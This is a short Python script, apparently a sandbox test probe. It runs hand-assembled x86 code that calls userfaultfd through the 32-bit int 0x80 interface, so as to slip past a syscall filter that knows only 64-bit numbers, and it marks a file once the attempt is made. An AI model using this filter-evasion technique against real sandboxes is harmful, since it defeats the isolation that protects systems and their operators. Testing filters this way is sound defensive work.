"""Call the kernel as a 32-bit program does, past a filter that knows the 64-bit numbers only (x86-64)."""

import ctypes
import mmap
import os
import time
from pathlib import Path

USERFAULTFD, USER_MODE_ONLY = 374, 1
code = b"\x53\xb8" + USERFAULTFD.to_bytes(4, "little") + b"\xbb" + USER_MODE_ONLY.to_bytes(4, "little")
code += b"\xcd\x80\x5b\xc3"  # push rbx; mov eax, …; mov ebx, …; int 0x80; pop rbx; ret
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
if os.fork() == 0:  # a filter may kill it for this
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    time.sleep(30)
time.sleep(0.2)
Path("out/tried").touch()
time.sleep(30)
